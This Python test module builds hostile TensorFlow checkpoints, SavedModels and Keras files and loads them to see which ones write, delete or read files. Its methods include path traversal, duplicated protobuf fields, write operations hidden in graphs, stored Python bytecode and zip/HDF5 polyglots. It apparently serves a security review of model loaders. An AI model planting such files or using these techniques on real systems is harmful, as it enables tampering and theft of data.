"""Files that do harm when they are loaded: to write, to delete or to read something that is none of their business.

``MADE`` has a function for each, which writes it into an empty folder and returns its path and how it is loaded. The
harm is a file ``harm…`` or ``model…`` in the folder, or that the files ``victim…`` are gone; a file that has read
``secret`` hands its words out.

    python tests/hostile_files.py FOLDER

loads all that were made in the folders of a folder, and prints which did what. Do that in a process that you can spare.
"""

import contextlib
import json
import sys
import zipfile
from pathlib import Path

MADE = {}
SECRET = "these words are nobody's business"


def made(kind, harms=True):
    """A decorator for a function that makes a hostile file of a kind of section 4 of the review.

    Args:
        kind: the number of the kind.
        harms: whether the installed TensorFlow and Keras let it do its harm; older ones do.
    """

    def add(make):
        MADE[make.__name__] = (kind, harms, make)
        return make

    return add


# Graphs and checkpoints


def saved(folder, build=lambda: None, change=lambda graph: None, **saver):
    """Saves a variable with a Saver, changes the MetaGraphDef, and returns the path of the ``.meta``."""
    import tensorflow.compat.v1 as tf
    from tensorflow.core.protobuf import meta_graph_pb2

    with tf.Graph().as_default(), tf.Session() as sess:
        tf.get_variable("A", initializer=tf.constant(3, shape=[2]), use_resource=False)
        build()
        sess.run(tf.global_variables_initializer())
        tf.train.Saver(**saver).save(sess, f"{folder}/m", write_state=False)
    path = folder / "m.meta"
    graph = meta_graph_pb2.MetaGraphDef.FromString(path.read_bytes())
    change(graph)
    path.write_bytes(graph.SerializeToString())
    return path


def add(graph, name, kind, *inputs, to=None, **attributes):
    """Adds an operation to a MetaGraphDef, and makes another one run after it."""
    node = graph.graph_def.node.add(name=name, op=kind, input=inputs)
    for key, value in attributes.items():
        node.attr[key].CopyFrom(value)
    if to:
        node_of(graph, to).input.append(f"^{name}")
    return node


def node_of(graph, name):
    return next(node for node in graph.graph_def.node if node.name == name)


def attr(**value):
    import tensorflow.compat.v1 as tf

    return tf.AttrValue(**value)


def const(value):
    """The attributes of a constant that is a text, or several."""
    import tensorflow.compat.v1 as tf

    value = tf.make_tensor_proto(value)
    return {"dtype": tf.AttrValue(type=value.dtype), "value": tf.AttrValue(tensor=value)}


STRING, INT32 = 7, 3  # as attributes have them


def also_saves_to(graph, name, filename, to):
    """Adds an operation that saves what ``save/SaveV2`` saves to another file."""
    twin = graph.graph_def.node.add()
    twin.CopyFrom(node_of(graph, "save/SaveV2"))
    twin.name, twin.input[0] = name, filename
    if to:
        node_of(graph, to).input.append(f"^{name}")
    return twin


@made(1)
def savers_own_constant_is_a_path(folder):
    """The Saver's own operation writes when it is not fed: at the initialization of a variable."""

    def change(graph):
        for node in graph.graph_def.node:
            if node.op == "Const" and node.attr["value"].tensor.string_val[:] == [b"model"]:
                node.attr["value"].tensor.string_val[:] = [f"{folder}/harm".encode()]
        node_of(graph, "A/Assign").input.append("^early")
        twin = also_saves_to(graph, "early", "save/Const", None)
        del twin.input[3:]
        twin.input.append("Const")

    return saved(folder, change=change), "initialize"


@made(1)
def merges_another_checkpoint_away(folder):
    """MergeV2Checkpoints deletes the parts that it has joined, and one of them is somebody's checkpoint."""
    import tensorflow.compat.v1 as tf

    with tf.Graph().as_default(), tf.Session() as sess:
        tf.get_variable("B", initializer=[1.0])
        sess.run(tf.global_variables_initializer())
        tf.train.Saver().save(sess, f"{folder}/victim", write_meta_graph=False, write_state=False)

    def change(graph):
        add(graph, "save/other", "Const", **const(f"{folder}/victim"))
        pack = {"N": attr(i=2), "T": attr(type=STRING)}
        add(graph, "save/parts", "Pack", "save/Const", "save/other", "^save/SaveV2", **pack)
        add(graph, "save/merge", "MergeV2Checkpoints", "save/parts", "save/Const", to="save/control_dependency")
        node_of(graph, "save/control_dependency")

    return saved(folder, change=change), "save"


@made(1)
def joined_by_a_way_out(folder):
    (folder / "deep" / "er").mkdir(parents=True)

    def change(graph):
        add(graph, "save/part", "Const", **const("harm"))
        joined = {"N": attr(i=2), "separator": attr(s=b"/../../")}
        add(graph, "save/name", "StringJoin", "save/Const", "save/part", **joined)
        node_of(graph, "save/SaveV2").input[0] = "save/name"

    return saved(folder, change=change), "save to deep/er"


@made(1)
def way_out_in_two_pieces(folder):
    (folder / "deep").mkdir()

    def change(graph):
        for number, piece in enumerate(["/.", "./harm"]):
            add(graph, f"save/piece_{number}", "Const", **const(piece))
        add(graph, "save/name", "StringJoin", "save/Const", "save/piece_0", "save/piece_1", N=attr(i=3))
        node_of(graph, "save/SaveV2").input[0] = "save/name"

    return saved(folder, change=change), "save to deep"


@made(1)
def another_output_of_what_is_fed(folder):
    def change(graph):
        add(graph, "names", "Const", **const(["x", f"{folder}/harm"]))
        add(graph, "split", "Unpack", "names", num=attr(i=2), T=attr(type=STRING), axis=attr(i=0))
        graph.saver_def.filename_tensor_name = "split:0"
        node_of(graph, "save/SaveV2").input[0] = "split:1"
        node_of(graph, "save/RestoreV2").input[0] = "split"
        node_of(graph, "save/control_dependency").input[0] = "split"

    return saved(folder, change=change), "save"


@made(1)
def saves_when_it_restores(folder):
    """To the file that is fed: the checkpoint that is being restored is overwritten."""

    def change(graph):
        add(graph, "more", "Const", **const("-harm"))
        add(graph, "save/name", "StringJoin", "save/Const", "more", N=attr(i=2))
        twin = also_saves_to(graph, "save/again", "save/name", "save/restore_all")
        del twin.input[3:]
        twin.input.append("Const")

    return saved(folder, change=change), "restore"


@made(1)
def saves_at_each_prediction(folder):
    """The Saver's own operation, which the output of the net waits for; before it is fed, its file is another one."""
    import tensorflow.compat.v1 as tf

    def build():
        tf.identity(tf.get_default_graph().get_tensor_by_name("A:0"), name="output")

    def change(graph):
        for node in graph.graph_def.node:
            if node.op == "Const" and node.attr["value"].tensor.string_val[:] == [b"model"]:
                node.attr["value"].tensor.string_val[:] = [f"{folder}/harm".encode()]
        node_of(graph, "output").input.append("^save/SaveV2")

    return saved(folder, build, change), "predict"


@made(1)
def another_saver_at_each_prediction(folder):
    """A second Saver, which the graph was not exported with: it writes into the current folder."""
    import tensorflow.compat.v1 as tf

    def build():
        tf.identity(tf.get_default_graph().get_tensor_by_name("A:0"), name="output")
        tf.train.Saver(name="other")

    return saved(folder, build, lambda graph: node_of(graph, "output").input.append("^other/SaveV2")), "predict there"


@made(1)
def another_saver_of_the_collection(folder):
    """A second Saver, in the collection ``savers``, whose file nobody gives, and which the first one runs."""
    import tensorflow.compat.v1 as tf

    def change(graph):
        add(graph, "save_1/Const", "Const", **const(f"{folder}/harm"))
        twin = also_saves_to(graph, "save_1/SaveV2", "save_1/Const", "save/restore_all")
        del twin.input[3:]
        twin.input.append("Const")
        other = tf.train.SaverDef(
            filename_tensor_name="save_1/Const:0", save_tensor_name="save_1/SaveV2", restore_op_name="save_1/SaveV2"
        )
        graph.collection_def["savers"].bytes_list.value.append(other.SerializeToString())

    return saved(folder, change=change), "restore"


@made(1)
def writes_behind_a_function_with_two_callers(folder):
    """One of them hands the Saver's file name on, the other one a constant."""
    import tensorflow as tf2
    import tensorflow.compat.v1 as tf

    def build():
        @tf2.function(input_signature=[tf2.TensorSpec([], tf2.string)], autograph=False)
        def write(name):
            save = tf.raw_ops.SaveV2(
                prefix=name, tensor_names=["A"], shape_and_slices=[""], tensors=[tf.constant([1, 2])]
            )
            with tf.control_dependencies([save]):
                return tf.identity(0)

        write(tf.constant(f"{folder}/harm", name="there"))
        write(tf.constant("model", name="here"))

    def change(graph):
        calls = [node for node in graph.graph_def.node if node.op == "StatefulPartitionedCall"]
        next(call for call in calls if call.input[0] == "here").input[0] = "save/Const"
        for call in calls:
            add(graph, f"{call.name}_out", "Identity", call.name, to="save/control_dependency", T=attr(type=INT32))

    return saved(folder, build, change), "save"


def printing(graph, **attributes):
    add(graph, "words", "Const", **const("harm"))
    return add(graph, "o", "PrintV2", "words", to="save/restore_all", **attributes)


@made(2)
def attribute_with_two_values(folder):
    """Protobuf takes the last one."""

    def change(graph):
        printing(graph, output_stream=attr(s=b"?" * 300))

    path = saved(folder, change=change)
    first = attr(s=b"stderr").SerializeToString()
    other = attr(s=f"file://{folder}/harm".encode()).SerializeToString()
    return replaced(path, attr(s=b"?" * 300).SerializeToString(), first + other), "restore"


@made(2)
def attribute_that_stands_twice(folder):
    """Two elements of the map of attributes with one key: protobuf takes the last one."""

    def change(graph):
        printing(graph, output_stream=attr(s=b"stderr"))

    path = saved(folder, change=change)
    other = attr(s=f"file://{folder}/harm".encode()).SerializeToString()
    key = b"\x0a\x0doutput_stream\x12"
    element = key + varint(len(other)) + other
    more = b"\x2a" + varint(len(element)) + element
    beginning = b"\x0a\x01o\x12\x07PrintV2"
    return with_node(path, lambda node: node + more if node.startswith(beginning) else node), "restore"


def end_to_end(node, *texts):
    """Gives a constant texts in another place: TensorFlow takes these, and never looks at those one by one."""
    lengths = b"".join(varint(len(text)) for text in texts)
    node.attr["value"].tensor.tensor_content = lengths + b"".join(text.encode() for text in texts)


@made(2)
def text_in_two_places(folder):
    """The empty name of a cache, which is in memory then; and behind it another one."""

    def change(graph):
        node_of(graph, "save/restore_all").input.append("^taken")
        end_to_end(node_of(graph, "name"), f"{folder}/harm")

    return saved(folder, lambda: cached(""), change), "restore"


@made(2)
def text_that_stands_end_to_end(folder):
    """What a Saver joins to its file's name leads elsewhere."""

    (folder / "deep" / "er").mkdir(parents=True)

    def change(graph):
        part = add(graph, "save/part", "Const", **const("part"))
        del part.attr["value"].tensor.string_val[:]
        end_to_end(part, "/../../harm")
        add(graph, "save/name", "StringJoin", "save/Const", "save/part", N=attr(i=2))
        node_of(graph, "save/SaveV2").input[0] = "save/name"

    return saved(folder, change=change), "save to deep/er"


def varint(number):
    return bytes([number]) if number < 128 else bytes([number & 127 | 128]) + varint(number >> 7)


def replaced(path, old, new):
    """Replaces bytes in a MetaGraphDef, and mends the lengths around them."""
    return with_node(path, lambda node: node.replace(old, new) if old in node else node, old, new)


def with_node(path, change, old=b"", new=b""):
    """Writes a MetaGraphDef anew, in which a function has changed the bytes of each node, or those of an attribute."""
    from tfckpt.format.wire import fields

    def message(parts):
        return b"".join(bytes([number << 3 | 2]) + varint(len(value)) + value for number, value in parts)

    def of_node(node):
        if not old:
            return change(node)
        parts = []
        for number, value in fields(node):
            if number == 5 and old in value:
                key = dict(fields(value))[1]
                value = message([(1, key), (2, new)])
            parts.append((number, value))
        return message(parts) if old in node else node

    meta = []
    for number, value in fields(path.read_bytes()):
        if number == 2:
            graph = [(n, of_node(v) if n == 1 else v) for n, v in fields(value)]
            value = b"".join(
                message([(n, v)]) if not isinstance(v, int) else bytes([n << 3]) + varint(v) for n, v in graph
            )
        meta.append((number, value))
    path.write_bytes(message(meta))
    return path


@made(2)
def attribute_that_a_caller_fills(folder):
    import tensorflow.compat.v1 as tf

    def change(graph):
        body = graph.graph_def.library.function.add()
        body.signature.name = "speak"
        body.signature.is_stateful = True
        body.signature.attr.add(name="where", type="string")
        body.signature.input_arg.add(name="text", type=STRING)
        node = body.node_def.add(name="o", op="PrintV2", input=["text"])
        node.attr["output_stream"].placeholder = "where"
        body.control_ret["o"] = "o"
        body.signature.control_output.append("o")
        add(graph, "words", "Const", **const("harm"))
        call = tf.AttrValue()
        call.func.name = "speak"
        call.func.attr["where"].s = f"file://{folder}/harm".encode()
        types = {"Tin": attr(list=tf.AttrValue.ListValue(type=[STRING])), "Tout": attr(list=tf.AttrValue.ListValue())}
        add(graph, "call", "StatefulPartitionedCall", "words", to="save/restore_all", f=call, **types)

    return saved(folder, change=change), "restore"


@made(2)
def second_graph_def_is_merged(folder):
    """A message that stands twice is merged: the second one has the operation."""
    from tensorflow.core.protobuf import meta_graph_pb2

    path = saved(folder, change=lambda graph: node_of(graph, "save/restore_all").input.append("^w"))
    more = meta_graph_pb2.MetaGraphDef()
    add(more, "p", "Const", **const(f"{folder}/harm"))
    add(more, "w", "WriteFile", "p", "p")
    path.write_bytes(path.read_bytes() + more.SerializeToString())
    return path, "restore"


def program(folder):
    """A dataset as a serialized graph, whose elements are computed by an operation that writes a file."""
    import tensorflow as tf

    def write(x):
        with tf.control_dependencies([tf.io.write_file(f"{folder}/harm", "x")]):
            return tf.identity(x)

    data = tf.data.Dataset.range(1).map(write)
    return tf.raw_ops.DatasetToGraphV2(input_dataset=data._variant_tensor, external_state_policy=1).numpy()


def running(graph, text):
    """Adds what makes a dataset of a serialized graph in a tensor, and takes its first element, on restore."""
    import tensorflow.compat.v1 as tf

    types = attr(list=tf.AttrValue.ListValue(type=[9]))
    shapes = tf.AttrValue()
    shapes.list.shape.add()
    element = {"output_types": types, "output_shapes": shapes}
    # Shuffled, so that it is not computed in advance, which fails.
    add(graph, "list", "Pack", text, text, N=attr(i=2), T=attr(type=STRING))
    add(graph, "shuffled", "RandomShuffle", "list", T=attr(type=STRING))
    add(graph, "held", "Unpack", "shuffled", num=attr(i=2), T=attr(type=STRING))
    add(graph, "data", "DatasetFromGraph", "held")
    add(graph, "first", "DatasetToSingleElement", "data", to="save/restore_all", **element)


@made(3)
def graph_in_a_text(folder):
    text = program(folder)

    def change(graph):
        add(graph, "program", "Const", **const(text))
        running(graph, "program")

    return saved(folder, change=change), "restore"


@made(3)
def graph_in_a_text_in_two_pieces(folder):
    text = program(folder)

    def change(graph):
        add(graph, "half", "Const", **const(text[:100]))
        add(graph, "other", "Const", **const(text[100:]))
        add(graph, "program", "StringJoin", "half", "other", N=attr(i=2))
        running(graph, "program")

    return saved(folder, change=change), "restore"


@made(3, harms=False)
def python_function_in_a_function(folder):
    """A Python function is not in the file: whoever has registered one with this number has it called."""
    import tensorflow as tf2
    import tensorflow.compat.v1 as tf

    def build():
        @tf2.function(input_signature=[], autograph=False)
        def call():
            return tf.py_func(lambda: 1, [], tf.int64)

        tf.identity(call(), name="called")

    return saved(folder, build), "restore"


@made(3, harms=False)
def compiled_program(folder):
    def change(graph):
        add(graph, "x", "XlaCallModule", to="save/restore_all", module=attr(s=b"ML\xefR"), version=attr(i=9))

    return saved(folder, change=change), "import"


def cached(name):
    """Adds a dataset that is cached under a name, and the operation ``taken``, which runs it to its end."""
    import tensorflow as tf2

    name = tf2.constant(name, name="name") if isinstance(name, str) else name
    data = tf2.data.Dataset.range(2)
    kept = tf2.raw_ops.CacheDataset(
        input_dataset=data._variant_tensor, filename=name, output_types=[tf2.int64], output_shapes=[[]]
    )
    whole = tf2.raw_ops.BatchDatasetV2(
        input_dataset=kept, batch_size=5, drop_remainder=False, output_types=[tf2.int64], output_shapes=[[None]]
    )
    reduced = tf2.raw_ops.DatasetToSingleElement(dataset=whole, output_types=[tf2.int64], output_shapes=[[None]])
    tf2.identity(reduced[0], name="taken")


@made(4)
def cache_whose_name_is_computed(folder):
    import tensorflow as tf2
    import tensorflow.compat.v1 as tf

    def build():
        told = tf2.raw_ops.StringFormat(inputs=[tf.constant(1)], template=f"{folder}/harm?", placeholder="?")
        cached(tf2.strings.join(["", told]))

    def change(graph):
        node_of(graph, "save/restore_all").input.append("^taken")

    return saved(folder, build, change), "restore"


def with_vocabulary(folder, file):
    """A SavedModel with a table that it reads from an asset, whose name is then another one."""
    import tensorflow as tf
    from tensorflow.core.protobuf import saved_model_pb2

    (folder / "secret").write_text(SECRET)
    words = folder / "words.txt"
    words.write_text("a\nb\n")

    class Words(tf.Module):
        def __init__(self):
            key, value = tf.lookup.TextFileIndex.LINE_NUMBER, tf.lookup.TextFileIndex.WHOLE_LINE
            initializer = tf.lookup.TextFileInitializer(str(words), tf.int64, key, tf.string, value)
            self.table = tf.lookup.StaticHashTable(initializer, "?")

        @tf.function(input_signature=[tf.TensorSpec([], tf.int64)])
        def look(self, number):
            return self.table.lookup(number)

    tf.saved_model.save(Words(), f"{folder}/sm")
    path = folder / "sm" / "saved_model.pb"
    model = saved_model_pb2.SavedModel.FromString(path.read_bytes())
    model.meta_graphs[0].asset_file_def[0].filename = file
    path.write_bytes(model.SerializeToString())
    return folder / "sm", "look"


@made(4)
def asset_that_escapes(folder):
    return with_vocabulary(folder, "../../secret")


@made(4)
def asset_with_an_absolute_path(folder):
    return with_vocabulary(folder, f"{folder}/secret")


@made(4)
def table_that_is_filled_from_another_constant(folder):
    """The function that fills the table takes in a constant in place of the asset."""
    from tensorflow.core.protobuf import saved_model_pb2

    path, how = with_vocabulary(folder, "words.txt")
    path = path / "saved_model.pb"
    model = saved_model_pb2.SavedModel.FromString(path.read_bytes())
    graph = model.meta_graphs[0]
    add(graph, "mine", "Const", **const(f"{folder}/secret"))
    objects = graph.object_graph_def
    (asset,) = (number for number, node in enumerate(objects.nodes) if node.WhichOneof("kind") == "asset")
    new = len(objects.nodes)
    objects.nodes.add().constant.operation = "mine"
    objects.nodes[0].children.add(node_id=new, local_name="mine")
    for function in objects.concrete_functions.values():
        function.bound_inputs[:] = [new if place == asset else place for place in function.bound_inputs]
    path.write_bytes(model.SerializeToString())
    return path.parent, how


# What an import runs, and what the loader of objects runs


@made(4)
def reads_when_it_is_imported(folder):
    import tensorflow.compat.v1 as tf

    (folder / "secret").write_bytes(bytes([7, 0, 0, 0]))

    def build():
        size = tf.io.decode_raw(tf.io.read_file(f"{folder}/secret"), tf.int32)
        tf.fill(size, 1.0, name="filled")

    def change(graph):
        for node in graph.graph_def.node:
            node.attr.pop("_output_shapes", None)

    return saved(folder, build, change), "import and see"


@made(4)
def writes_when_it_is_imported(folder):
    """DebugIdentity has no state, so TensorFlow may run it to find out a shape; and it writes where it is told to."""
    import tensorflow.compat.v1 as tf

    def build():
        tf.fill(tf.identity(tf.constant([3]), name="size"), 1.0, name="filled")

    def change(graph):
        urls = attr(list=tf.AttrValue.ListValue(s=[f"file://{folder}/harm".encode()]))
        more = {"T": attr(type=INT32), "debug_urls": urls, "tensor_name": attr(s=b"size:0")}
        add(graph, "spy", "DebugIdentity", "size", **more)
        node_of(graph, "filled").input[0] = "spy"
        for node in graph.graph_def.node:
            node.attr.pop("_output_shapes", None)

    return saved(folder, build, change), "import"


@made(4)
def writes_when_it_is_loaded(folder):
    """The function that makes a resource writes a file, and nothing in the graph calls it."""
    from tensorflow.core.protobuf import saved_model_pb2

    path, _ = with_vocabulary(folder, "words.txt")
    path = path / "saved_model.pb"
    model = saved_model_pb2.SavedModel.FromString(path.read_bytes())
    graph = model.meta_graphs[0]
    body = next(each for each in graph.graph_def.library.function if "initializer" in each.signature.name)
    for name, value in (("p", f"{folder}/harm"), ("q", "x")):
        node = body.node_def.add(name=name, op="Const")
        for key, each in const(value).items():
            node.attr[key].CopyFrom(each)
    body.node_def.add(name="w", op="WriteFile", input=["p:output:0", "q:output:0"])
    body.control_ret["w"] = "w"
    body.signature.control_output.append("w")
    path.write_bytes(model.SerializeToString())
    return path.parent, "load"


# Keras


def zipped(path, layers, weights=b"", **more):
    """Writes a ``.keras`` file of a Sequential model with these layers."""
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": layers}}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}))
        archive.writestr("config.json", json.dumps({**config, **more}))
        archive.writestr("model.weights.h5", weights or no_weights())
    return path


def no_weights():
    """An HDF5 file with nothing in it."""
    import io

    import h5py

    file = io.BytesIO()
    h5py.File(file, "w").close()
    return file.getvalue()


def layer(kind, module="keras.layers", **config):
    config = {"name": kind.lower(), **config} if kind != "function" else config["config"]
    return {"module": module, "class_name": kind, "config": config, "registered_name": None}


def harmful_lambda(folder):
    """The bytecode of a function that writes a file, as Keras stores it."""
    from keras.src.utils import python_utils

    code, defaults, closure = python_utils.func_dump(
        eval(f"lambda *x: [x[0], open({f'{folder}/harm'!r}, 'w').close()][0]")
    )
    return {"class_name": "__lambda__", "config": {"value": [code, defaults, closure]}}


@made(5)
def bytecode_in_an_activation(folder):
    """Not a Lambda layer: a Dense one."""
    path = folder / "m.keras"
    inputs = layer("InputLayer", batch_shape=[None, 2], dtype="float32")
    return zipped(path, [inputs, layer("Activation", activation=harmful_lambda(folder))]), "keras, unsafe"


@made(5)
def bytecode_in_what_was_trained(folder):
    """In the compile_config of a .keras file."""
    inputs = layer("InputLayer", batch_shape=[None, 2], dtype="float32")
    trained = {"optimizer": "sgd", "loss": harmful_lambda(folder), "metrics": None}
    return zipped(folder / "m.keras", [inputs], compile_config=trained), "keras, unsafe, and train"


@made(5)
def vocabulary_from_any_file(folder):
    (folder / "secret").write_text(SECRET)
    lookup = layer("StringLookup", vocabulary=f"{folder}/secret")
    inputs = layer("InputLayer", batch_shape=[None, 1], dtype="string")
    return zipped(folder / "m.keras", [inputs, lookup]), "vocabulary"


@made(5)
def saved_model_from_elsewhere(folder):
    (folder / "other").mkdir()
    path, _ = writes_when_it_is_loaded(folder / "other")
    tfsm = layer("TFSMLayer", filepath=str(path), call_endpoint="serving_default")
    inputs = layer("InputLayer", batch_shape=[None, 2], dtype="float32")
    return zipped(folder / "m.keras", [inputs, tfsm]), "keras, unsafe"


@made(5, harms=False)
def function_of_python_as_a_layer(folder):
    run = layer("function", "builtins", config="exec")
    return zipped(folder / "m.keras", [run]), "keras"


@made(5, harms=False)
def function_of_keras_as_a_layer(folder):
    run = {**layer("function", "keras.models", config="load_model"), "registered_name": "load_model"}
    return zipped(folder / "m.keras", [run]), "keras"


@made(5, harms=False)
def class_that_is_a_function(folder):
    run = {"module": "keras.applications", "class_name": "ResNet50V2", "config": {"weights": "/tmp/x.h5"}}
    return zipped(folder / "m.keras", [run]), "keras"


@made(5, harms=False)
def operation_of_tensorflow_as_a_layer(folder):
    """As tf_keras has them."""
    run = layer("TFOpLambda", "tf_keras.layers", function="io.write_file")
    return zipped(folder / "m.keras", [run]), "keras"


@made(5, harms=False)
def operation_in_a_node_of_a_layer(folder):
    node = {"name": "w", "op": "WriteFile", "input": ["p", "q"]}
    return zipped(folder / "m.keras", [layer("TensorFlowOpLayer", "tf_keras.layers", node_def=node)]), "keras"


def changed_h5(folder, attribute, change):
    import h5py
    import keras

    model = keras.Sequential([keras.layers.Input([2]), keras.layers.Dense(1)])
    model.compile("sgd", loss=keras.losses.MeanSquaredError())
    path = folder / "m.h5"
    model.save(path)
    with h5py.File(path, "a") as file:
        config = json.loads(file.attrs[attribute])
        change(config)
        file.attrs[attribute] = json.dumps(config)
    return path, "keras, unsafe"


@made(5)
def bytecode_in_an_h5(folder):
    def change(config):
        config["config"]["layers"][-1]["config"]["activation"] = harmful_lambda(folder)

    return changed_h5(folder, "model_config", change)


@made(5, harms=False)
def bytecode_in_the_training_of_an_h5(folder):
    return changed_h5(folder, "training_config", lambda config: config.update(loss=harmful_lambda(folder)))


def with_metadata(folder, nodes):
    """A SavedModel with a ``keras_metadata.pb`` of pairs of a name and JSON."""
    import tensorflow as tf

    def field(number, value):
        return bytes([number << 3 | 2, len(value) & 127 | 128, len(value) >> 7]) + value

    tf.saved_model.save(tf.Module(), f"{folder}/sm")
    content = b"".join(field(1, field(3, name) + field(5, text)) for name, text in nodes)
    (folder / "sm" / "keras_metadata.pb").write_bytes(content)
    return folder / "sm", "keras"


LAMBDA = json.dumps({"class_name": "Lambda", "config": {"name": "l", "function": ["code", None, None]}}).encode()


@made(5, harms=False)
def bad_node_before_the_code(folder):
    return with_metadata(folder, [(b"root", b"{not JSON"), (b"root.l", LAMBDA)])


@made(5, harms=False)
def code_in_the_objects_of_a_saved_model(folder):
    import tensorflow as tf
    from tensorflow.core.protobuf import saved_model_pb2

    tf.saved_model.save(tf.Module(), f"{folder}/sm")
    path = folder / "sm" / "saved_model.pb"
    model = saved_model_pb2.SavedModel.FromString(path.read_bytes())
    node = model.meta_graphs[0].object_graph_def.nodes.add()
    node.user_object.identifier, node.user_object.metadata = "_tf_keras_layer", LAMBDA.decode()
    path.write_bytes(model.SerializeToString())
    return folder / "sm", "keras"


# Two files in one


def harmless_hdf5(path, **how):
    import h5py

    with h5py.File(path, "w", **how) as file:
        file["layers/dense/vars/0"] = [1.0, 2.0]


@made(6)
def zip_after_an_hdf5(folder):
    bad, _ = bytecode_in_an_activation(folder)
    content = bad.read_bytes()
    harmless_hdf5(bad)
    bad.write_bytes(bad.read_bytes() + content)
    return bad, "keras, unsafe"


@made(6)
def bytes_before_a_zip(folder):
    bad, _ = bytecode_in_an_activation(folder)
    bad.write_bytes(b"\x0a\x00" + bad.read_bytes())
    return bad, "keras, unsafe"


@made(6)
def zip_in_a_user_block(folder):
    """A harmless .keras before the HDF5 that is loaded."""
    bad, how = bytecode_in_an_h5(folder)
    good = zipped(folder / "good.keras", [layer("InputLayer", batch_shape=[None, 2])]).read_bytes()
    import h5py

    with h5py.File(bad, "r") as file, h5py.File(folder / "both.h5", "w", userblock_size=16384) as both:
        for key, value in file.attrs.items():
            both.attrs[key] = value
        for key in file:
            file.copy(key, both)
    with open(folder / "both.h5", "r+b") as file:
        file.write(good)
    return folder / "both.h5", how


@made(6)
def text_beside_a_saved_model(folder):
    path, how = writes_when_it_is_loaded(folder)
    (path / "saved_model.pbtxt").write_text("")
    return path, how


# Loading them


def load(path, how):
    """Loads a hostile file as somebody would. Returns what it hands out."""
    import tensorflow as tf2
    import tensorflow.compat.v1 as tf

    if how in ("load", "look"):
        loaded = tf2.saved_model.load(str(path))
        return loaded.look(0).numpy().decode() if how == "look" else ""
    if how.startswith("keras") or how == "vocabulary":
        return load_keras(path, how)
    with tf.Graph().as_default() as graph, tf.Session() as sess:
        saver = tf.train.import_meta_graph(str(path))
        if how == "import and see":
            return str(graph.get_tensor_by_name("filled:0").shape)
        if how == "initialize":
            sess.run(tf.global_variables_initializer())
        elif how == "restore":
            saver.restore(sess, str(path).removesuffix(".meta"))
        elif how.startswith("predict"):
            saver.restore(sess, str(path).removesuffix(".meta"))
            with contextlib.chdir(path.parent):
                sess.run("output:0")
        elif how.startswith("save"):
            saver.restore(sess, str(path).removesuffix(".meta"))
            to = path.parent / how.removeprefix("save").removeprefix(" to ") / "copy"
            saver.save(sess, str(to), write_meta_graph=False, write_state=False)
    return ""


def load_keras(path, how):
    import keras

    model = keras.models.load_model(path, safe_mode=not how.startswith("keras, unsafe") and how != "vocabulary")
    if how == "vocabulary":
        return " ".join(model.layers[-1].get_vocabulary())
    import numpy as np

    if "train" in how:
        model.fit(np.ones([1, 2]), np.ones([1, 1]), verbose=0)
    else:
        model(np.ones([1, 2], "float32"))
    return ""


def main(folder):
    """Loads all that were made, and prints a line of JSON for each: its name, what happened, and what it handed out."""
    for name, (_, harms, _) in MADE.items():
        here = Path(folder, name)
        path, how = json.loads((here / "how.json").read_text())
        before = {file.name for file in here.glob("victim*")}
        says, gives = "", ""
        if harms:
            try:
                gives = load(Path(path), how)
            except Exception as error:  # it may fail after it has done its harm
                says = f"{type(error).__name__}: {error}"[:300]
        gone = bool(before) and not {file.name for file in here.glob("victim*")} >= before
        harm = [file.name for file in here.rglob("*harm*")] + [file.name for file in here.glob("model.*")]
        print(json.dumps({"name": name, "says": says, "gives": gives, "harm": harm, "gone": gone}), flush=True)


if __name__ == "__main__":
    main(sys.argv[1])
